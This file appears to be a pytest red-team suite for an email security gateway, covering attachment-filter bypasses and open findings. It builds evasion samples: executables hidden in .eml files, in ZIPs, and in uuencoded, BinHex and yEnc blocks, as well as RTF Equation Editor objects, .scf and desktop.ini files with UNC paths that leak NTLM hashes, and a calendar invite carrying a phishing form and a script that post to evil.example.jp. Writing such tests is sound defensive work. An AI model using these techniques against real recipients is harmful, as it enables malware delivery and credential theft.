"""Red team, attachments: executables and active files that still reach the recipient.

Each test sends one hostile message over real SMTP through the gateway with the default
policy and judges what a mail client would get, with readers independent of the gateway
(see ``tests/helpers/redteam.py``). Findings are listed in ``/work/helpers/redteam-findings.md``;
a test marked ``xfail(strict=True)`` is a reproducer of an open finding: it fails today and
turns the suite red (XPASS) once the fix lands, so the marker is then removed.
"""

from __future__ import annotations

import base64
import binascii
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.helpers import hostile
from tests.helpers.hostile import binhex
from tests.helpers.redteam import RedTeamChain, leaves, plain, with_attachment
from tests.text.linkify import live_links

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RedTeamChain]:
    with RedTeamChain(tmp_path_factory.mktemp("redteam-attachments")) as running:
        yield running


def executables_reachable(data: bytes) -> list[str]:
    """Executables a client could save from the delivered message, directly, by opening an
    attached ``.eml`` (Outlook and Thunderbird open those as messages), or by extracting
    one from a ZIP and opening it."""
    found = []
    for part, payload in leaves(data):
        found += _executables_in_file(str(part.get_filename() or ""), payload)
        if payload[:4] == b"PK\x03\x04":
            with zipfile.ZipFile(io.BytesIO(payload)) as archive:
                for member in archive.namelist():
                    found += _executables_in_file(member, archive.read(member))
    return found


def _executables_in_file(name: str, payload: bytes) -> list[str]:
    found = [f"PE {name!r}"] if payload.startswith(b"MZ") else []
    if name.lower().endswith((".eml", ".nws")) and payload:
        for inner, inner_payload in leaves(payload):
            if inner_payload.startswith(b"MZ"):
                found.append(f"PE {inner.get_filename()!r} inside {name!r}")
    return found


_FORWARD = (
    "MIME-Version: 1.0\r\nSubject: =?UTF-8?B?6KuL5rGC5pu4?=\r\n"
    'Content-Type: application/octet-stream; name="invoice.exe"\r\n'
    'Content-Disposition: attachment; filename="invoice.exe"\r\n'
    "Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(hostile.pe_bytes()).decode()
).encode()


@pytest.mark.parametrize("container", ["attached", "inside-zip"])
def test_eml_file_that_libmagic_calls_text_carries_an_executable(
    chain: RedTeamChain, container: str
):
    """RT-01. An attached message whose first header is not one libmagic keys on (here
    ``MIME-Version``) is classed as text and kept byte for byte under its ``.eml`` name; the
    notice even says it was rebuilt without dangerous elements. Outlook and Thunderbird open
    it as a message and offer ``invoice.exe``. The same file inside a ZIP is kept too."""
    if container == "attached":
        sent = with_attachment("fwd.eml", _FORWARD)
    else:
        archive = _zip({"fwd.eml": _FORWARD})
        sent = with_attachment("fwd.zip", archive, content_type="application/zip")
    outcome = chain.send(sent)
    assert outcome.code == 250
    for copy in outcome.delivered:
        assert executables_reachable(copy) == []


# Word is lenient about the RTF header (malspam opens with ``{\rt`` variants): an RTF object
# behind a byte-order mark or a blank is still a document with an Equation Editor object
# to whoever opens it, but the gateway sees text/plain and keeps it byte for byte.
_EQUATION_OBJECT = (
    rb"{\rtf1\ansi{\object\objemb{\*\objclass Equation.3}\objw380\objh260"
    rb"{\*\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000000}}}"
)


@pytest.mark.parametrize(
    "prefix",
    [b"\xef\xbb\xbf", b"\r\n", b" "],
    ids=["utf8-bom", "leading-crlf", "leading-space"],
)
def test_rtf_object_behind_a_header_variant_is_not_delivered(chain: RedTeamChain, prefix: bytes):
    data = prefix + _EQUATION_OBJECT
    outcome = chain.send(with_attachment("請求書.doc", data, content_type="application/msword"))
    assert outcome.code == 250
    for copy in outcome.delivered:
        payloads = [payload for _, payload in leaves(copy)]
        assert not any(b"\\objdata" in p for p in payloads), "RTF object delivered as received"


# Shell files Windows Explorer or Office act on, absent from the gateway's lists of names
# that run, and delivered under their own name when their bytes look like text. Outlook
# blocks most of them itself (its Level 1 list); Thunderbird, Becky! and webmail do not.
RISKY_TEXT_NAMES = {
    # Explorer loads the icon from the UNC path as soon as the folder is shown: NTLM leak.
    "desktop.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\?\\UNC\\10.0.0.5\\s\\i.ico\r\n",
    # Windows theme files: the wallpaper and cursors are fetched (CVE-2024-21320).
    "office.theme": b"[Theme]\r\nDisplayName=x\r\n[Control Panel\\Desktop]\r\nWallpaper=x\r\n",
    "office.themepack": b"[Theme]\r\nDisplayName=x\r\n",
    # Excel web/database queries: open a data connection when opened.
    "data.dqy": b"XLODBC\r\n1\r\nDSN=x;\r\nSELECT 1\r\n",
    "data.rqy": b"XLODBC\r\n1\r\nDSN=x;\r\nSELECT 1\r\n",
    # Windows Script Host runs .ws like .wsf.
    "run.ws": b"WScript.Echo 1\r\n",
    # App Installer / ClickOnce manifests install software from a URL.
    "setup.appinstaller": b'<?xml version="1.0"?><AppInstaller Version="1.0.0.0"/>',
    "addin.vsto": b'<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:x"/>',
}


@pytest.mark.parametrize("filename", sorted(RISKY_TEXT_NAMES))
def test_file_types_windows_acts_on_do_not_arrive_under_their_name(
    chain: RedTeamChain, filename: str
):
    outcome = chain.send(with_attachment(filename, RISKY_TEXT_NAMES[filename]))
    assert outcome.code == 250
    suffix = filename.rsplit(".", 1)[1]
    for copy in outcome.delivered:
        names = {str(part.get_filename() or "") for part, _ in leaves(copy)}
        assert not any(n.lower().endswith("." + suffix) for n in names), names


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def test_text_members_of_a_zip_get_their_links_defanged(chain: RedTeamChain):
    """RT-04. Top-level text attachments get their URLs and UNC paths defanged; the same
    text inside a ZIP comes back byte for byte. A ``desktop.ini`` with a UNC icon leaks the
    user's NTLM hash when Explorer shows the extracted folder; a ``.url``-like text keeps
    links. (An ``.scf`` member, the first sample here, now holds the whole archive: RT-05.)"""
    members = {
        "readme.txt": b"download: https://evil.example.jp/payload\r\n",
        "desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\10.0.0.5\\share\\icon.ico,0\r\n",
    }
    outcome = chain.send(with_attachment("資料.zip", _zip(members), content_type="application/zip"))
    assert outcome.code == 250
    [copy] = outcome.delivered
    for _, payload in leaves(copy):
        if payload[:4] != b"PK\x03\x04":
            continue
        with zipfile.ZipFile(io.BytesIO(payload)) as archive:
            for info in archive.infolist():
                text = archive.read(info).decode("utf-8", "replace")
                assert live_links(text) == [], (info.filename, text)


# --- encodings mail clients decode inside plain text --------------------------------------

_UNTYPED = "From: a@partner.example\r\nTo: {RCPT}\r\nSubject: redteam\r\n\r\nhello\r\n"


def _uuencoded_pe() -> str:
    data = hostile.pe_bytes()
    lines = [binascii.b2a_uu(data[i : i + 45]).decode() for i in range(0, len(data), 45)]
    return "begin 644 invoice.exe\r\n" + "".join(line.replace("\n", "\r\n") for line in lines)


@pytest.mark.parametrize(
    "ending",
    ["`\r\nEND\r\n", "`\r\nendx\r\n", "`\r\n", "`\r\n~~~~\r\nend\r\n"],
    ids=["upper-END", "endx", "no-end-line", "junk-line-before-end"],
)
def test_uuencoded_executable_in_untyped_mail_never_arrives_encoded(
    chain: RedTeamChain, ending: str
):
    """RT-06. Thunderbird's untyped-text reader (``mimeunty.cpp``) opens a uuencoded part at
    ``begin 644 name`` and closes it at any line starting ``end``/``END`` (or at the end of
    the message); the gateway only decodes a block ending in exactly ``end`` whose every
    line decodes, and otherwise delivers the message unchanged, block and all."""
    outcome = chain.send(_UNTYPED + _uuencoded_pe() + ending)
    assert outcome.code == 250
    for copy in outcome.delivered:
        assert b"begin 644 invoice.exe" not in copy


def test_binhex_executable_in_untyped_mail_never_arrives_encoded(chain: RedTeamChain):
    """RT-07. Thunderbird decodes BinHex 4.0 in untyped mail into an attachment named by the
    BinHex header; the gateway did not know BinHex and delivered the text unchanged. Now the
    file is decoded (run-length encoded or not) and goes through the attachment stage."""
    for runs in (False, True):
        sent = _UNTYPED.encode() + binhex(b"invoice.exe", hostile.pe_bytes(), runs=runs)
        outcome = chain.send(sent)
        assert outcome.code == 250
        assert outcome.was_held, "an executable inside must hold the message"
        for copy in outcome.delivered:
            assert b"(This file must be converted with BinHex 4.0)" not in copy


@pytest.mark.parametrize("end", [True, False], ids=["with-yend", "without-yend"])
def test_yenc_executable_in_untyped_mail_is_held(chain: RedTeamChain, end: bool):
    """RT-07 (yEnc). Thunderbird decodes ``=ybegin`` blocks in untyped mail too, up to
    ``=yend`` or the end of the text; the gateway used to only put a space before the line,
    so the program itself was never inspected."""
    sent = _UNTYPED.encode() + hostile.yenc(b"invoice.exe", hostile.pe_bytes(), end=end)
    outcome = chain.send(sent)
    assert outcome.code == 250
    assert outcome.was_held
    for copy in outcome.delivered:
        assert b"=ybegin" not in copy


def test_uuencoded_executable_in_plain_text_is_held(chain: RedTeamChain):
    """Control for RT-06: the well-formed block is found and held (passes today)."""
    outcome = chain.send(plain("hello\n" + _uuencoded_pe().replace("\r\n", "\n") + "`\nend"))
    assert outcome.was_held


def test_binhex_encoder_round_trips_through_an_independent_decoder(tmp_path: Path):
    """The BinHex reproducer is real BinHex: Perl's Convert::BinHex reads it back."""
    import shutil
    import subprocess

    if shutil.which("perl") is None:
        pytest.skip("perl is not installed")
    probe = subprocess.run(["perl", "-MConvert::BinHex", "-e", "1"], capture_output=True)
    if probe.returncode != 0:
        pytest.skip("libconvert-binhex-perl is not installed")
    data = hostile.pe_bytes()
    (tmp_path / "in.hqx").write_bytes(binhex(b"invoice.exe", data))
    script = (
        'use Convert::BinHex; use IO::File; my $fh = IO::File->new($ARGV[0], "r") or die;'
        "my $h = Convert::BinHex->open(FH => $fh); $h->read_header;"
        'print STDERR $h->filename; my $d = ""; while (defined(my $x = $h->read_data)) '
        "{ $d .= $x } binmode STDOUT; print $d;"
    )
    result = subprocess.run(
        ["perl", "-e", script, str(tmp_path / "in.hqx")], capture_output=True, check=True
    )
    assert result.stdout == data
    assert result.stderr.endswith(b"invoice.exe")


def test_calendar_html_description_carries_no_markup(chain: RedTeamChain):
    """RT-19. The URLs inside are defanged, but the HTML description of an event keeps its
    ``<form>``, password field and ``<script>``; Outlook renders X-ALT-DESC when the .ics is
    opened."""
    calendar = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:PUBLISH\r\nBEGIN:VEVENT\r\nUID:rt19\r\n"
        "DTSTART:20261210T010000Z\r\nSUMMARY:説明会\r\n"
        "X-ALT-DESC;FMTTYPE=text/html:<html><body><form action='https://evil.example.jp/x'>"
        "<input type=password name=p></form><script>alert(1)</script></body></html>\r\n"
        "END:VEVENT\r\nEND:VCALENDAR\r\n"
    ).encode()
    outcome = chain.send(with_attachment("説明会.ics", calendar, content_type="text/calendar"))
    [copy] = outcome.delivered
    for _, payload in leaves(copy):
        if b"BEGIN:VCALENDAR" in payload:
            lowered = payload.lower()
            for tag in (b"<script", b"<form", b"<input"):
                assert tag not in lowered, tag
